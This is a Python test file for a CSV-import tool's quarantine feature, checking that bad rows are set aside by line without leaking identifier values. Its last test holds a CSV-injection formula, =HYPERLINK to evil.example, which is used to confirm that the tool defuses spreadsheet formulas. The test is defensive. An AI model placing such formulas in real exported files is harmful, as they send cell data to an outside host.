"""Opt-in quarantine (issue #14 item 5): valid rows load, bad rows are set aside by file
and line (never by value), the summary says how many and where, and a fixed re-import
loads them."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from typer.testing import CliRunner

from decisionframe.cli import app
from decisionframe.errors import ImportValidationError
from decisionframe.project import Project

CLIENTS = "client_id,enrolled_on\nSSN-111-22-3333,2025-01-02\nB,2025-01-03\nC,not a date\n"
CONTACTS = (
    "touchpoint_id,client_id,started_at,channel\n"
    "T1,SSN-111-22-3333,2025-02-01 10:00:00,phone\n"
    "T2,B,2025-02-02 10:00:00,phone\n"
    "T3,B,yesterday,phone\n"  # bad timestamp
    "T4,NOBODY-999,2025-02-03 10:00:00,phone\n"  # orphan
    "T5,C,2025-02-03 10:00:00,phone\n"  # its client is set aside: an orphan too
    "T2,B,2025-02-04 10:00:00,phone\n"  # repeated key
    "T6,B,2025-02-05 10:00:00,phone,extra\n"  # too many fields
    "T7,B,2025-02-06 10:00:00,fax\n"  # unknown channel
)
SOURCES = (
    "sources:\n"
    "  clients: {path: data/clients.csv, on_error: quarantine}\n"
    "  touchpoints: {path: data/contacts.csv, on_error: quarantine}\n"
)


def _project(root: Path, sources: str = SOURCES, contacts: str = CONTACTS) -> Project:
    (root / "data").mkdir(parents=True, exist_ok=True)
    (root / "data" / "clients.csv").write_text(CLIENTS, "utf-8")
    (root / "data" / "contacts.csv").write_text(contacts, "utf-8")
    (root / "decisionframe.yaml").write_text(f"name: t\n{sources}", "utf-8")
    return Project(root)


def test_quarantine_loads_the_valid_rows_and_lists_the_others_by_line(tmp_path: Path) -> None:
    project = _project(tmp_path)
    result = project.import_data()
    rows = {t.table: (t.rows, t.quarantined) for t in result.tables}
    assert rows == {"clients": (2, 1), "touchpoints": (2, 6)}
    assert result.quarantined == 7
    assert "set aside" in result.summary()
    assert result.quarantine_file == ".decisionframe/quarantine/latest.csv"
    with project.open_store(read_only=True) as store:
        assert sorted(r[0] for r in store.rows("SELECT touchpoint_id FROM touchpoints")) == [
            "T1",
            "T2",
        ]
        logged = store.rows("SELECT table_name, line, rule FROM df_quarantine ORDER BY 1, 2")
    assert logged == [
        ("clients", 4, "not-a-date"),
        ("touchpoints", 4, "not-a-timestamp"),
        ("touchpoints", 5, "orphan-reference"),
        ("touchpoints", 6, "orphan-reference"),
        ("touchpoints", 7, "duplicate-key"),
        ("touchpoints", 8, "unreadable-line"),
        ("touchpoints", 9, "unknown-channel"),
    ]
    listed = tmp_path / result.quarantine_file
    assert listed.stat().st_mode & 0o777 == 0o600
    with listed.open(newline="") as handle:
        content = list(csv.DictReader(handle))
    assert {(r["table"], r["line"]) for r in content} >= {("touchpoints", "5")}
    # No identifier value anywhere: not in the file, the notes, or the summary.
    text = listed.read_text() + "\n".join(result.notes) + result.summary()
    for secret in ("SSN-111", "NOBODY-999", "yesterday", "not a date"):
        assert secret not in text
    assert any("touchpoints: 6 rows set aside" in n for n in result.notes)
    status = {t.table: t.quarantined for t in project.status().tables}
    assert status == {"clients": 1, "touchpoints": 6}
    # `decisionframe status` says so too (importing.md promises it), in its summary line.
    from typer.testing import CliRunner

    from decisionframe.cli import app

    shown = CliRunner().invoke(app, ["status", str(tmp_path)])
    assert shown.exit_code == 0, shown.output
    assert "clients 2 (1 set aside), touchpoints 2 (6 set aside)" in " ".join(shown.output.split())


def test_a_fixed_reimport_loads_everything_and_clears_the_quarantine(tmp_path: Path) -> None:
    project = _project(tmp_path)
    project.import_data()
    assert project.import_data().unchanged  # same files: nothing to do
    fixed = "\n".join(
        line
        for line in CONTACTS.splitlines()
        if not line.startswith(("T3", "T4", "T5", "T2,B,2025-02-04", "T6", "T7"))
    )
    fixed += "\nT3,B,2025-02-02 11:00:00,phone\n"
    (tmp_path / "data" / "contacts.csv").write_text(fixed, "utf-8")
    (tmp_path / "data" / "clients.csv").write_text(CLIENTS.replace("not a date", ""), "utf-8")
    result = project.import_data()
    assert result.quarantined == 0
    assert {t.table: t.rows for t in result.tables} == {"clients": 3, "touchpoints": 3}
    assert not (tmp_path / ".decisionframe" / "quarantine" / "latest.csv").exists()
    with project.open_store(read_only=True) as store:
        assert store.rows("SELECT count(*) FROM df_quarantine")[0][0] == 0


def test_refuse_stays_the_default(tmp_path: Path) -> None:
    sources = SOURCES.replace(", on_error: quarantine", "")
    project = _project(tmp_path, sources)
    with pytest.raises(ImportValidationError):
        project.import_data()
    assert not project.store_path.exists() or not project.status().tables


def test_a_refusing_source_refuses_the_whole_import(tmp_path: Path) -> None:
    sources = SOURCES.replace("contacts.csv, on_error: quarantine", "contacts.csv")
    with pytest.raises(ImportValidationError):
        _project(tmp_path, sources).import_data()


def test_a_problem_with_the_file_itself_is_still_refused(tmp_path: Path) -> None:
    contacts = CONTACTS.replace("touchpoint_id,", "contact,", 1)  # a required column is gone
    with pytest.raises(ImportValidationError) as info:
        _project(tmp_path, contacts=contacts).import_data()
    assert "missing-column" in {p.rule for p in info.value.problems}


def test_the_cli_summary_says_how_many_and_where(tmp_path: Path) -> None:
    _project(tmp_path)
    result = CliRunner().invoke(app, ["import", str(tmp_path)])
    assert result.exit_code == 0, result.output
    assert "7 rows were set aside" in result.output
    assert ".decisionframe/quarantine/latest.csv" in result.output
    assert "SSN-111" not in result.output


def test_an_unreadable_date_of_birth_is_set_aside(tmp_path: Path) -> None:
    """A date of birth that cannot be read refused the whole import even with quarantine
    (#13 item 13): its row is now set aside like any bad row, and no band is invented."""
    clients = (
        "client_id,enrolled_on,born\nA,2025-01-02,1980-05-01\nB,2025-01-03,31st of May\n"
        "C,2025-01-04,2001-02-03\n"
    )
    sources = (
        "sources:\n  clients: {path: data/clients.csv, on_error: quarantine, columns: "
        "{age_band: {column: born, age_bands: [18, 25, 65]}}}\n"
    )
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "clients.csv").write_text(clients, "utf-8")
    (tmp_path / "decisionframe.yaml").write_text(f"name: t\n{sources}", "utf-8")
    project = Project(tmp_path)
    result = project.import_data()
    assert result.quarantined == 1
    with project.open_store(read_only=True) as store:
        logged = store.rows("SELECT table_name, line, rule, column_name FROM df_quarantine")
        bands = store.rows("SELECT DISTINCT age_band FROM clients ORDER BY 1")
    assert logged == [("clients", 3, "bad-date-of-birth", "born")]
    assert bands == [("25-64",)]
    listed = (tmp_path / result.quarantine_file).read_text()
    assert "31st" not in listed


def test_the_quarantine_list_opens_in_a_spreadsheet_without_formulas(tmp_path: Path) -> None:
    """File and column names come from the source: a header `=HYPERLINK(...)` was written
    as is, a live formula when the list is opened in a spreadsheet (CSV injection)."""
    header = '=HYPERLINK("https://evil.example/?"&A2,"fix")'
    clients = f'client_id,"{header.replace(chr(34), chr(34) * 2)}"\nA,2025-01-02\nB,soon\n'
    sources = (
        "sources:\n  clients: {path: data/clients.csv, on_error: quarantine, columns: "
        "{enrolled_on: '" + header + "'}}\n"
    )
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "clients.csv").write_text(clients, "utf-8")
    (tmp_path / "decisionframe.yaml").write_text(f"name: t\n{sources}", "utf-8")
    result = Project(tmp_path).import_data()
    assert result.quarantined == 1
    with (tmp_path / result.quarantine_file).open(newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["column"] == "'" + header
    assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())
